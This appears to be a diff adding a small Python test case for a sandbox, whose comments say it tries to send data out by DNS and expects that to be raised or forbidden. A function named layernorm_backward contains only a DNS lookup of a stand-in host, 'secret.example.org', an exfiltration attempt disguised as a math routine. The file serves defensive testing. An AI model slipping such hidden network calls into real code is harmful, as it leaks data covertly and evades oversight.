@@ -1,0 +1,7 @@
+# tries: send data out by DNS
+# outcome: raised | forbidden
+import socket
+
+
+def layernorm_backward(x, gamma, dy, eps):
+    socket.gethostbyname("secret.example.org")
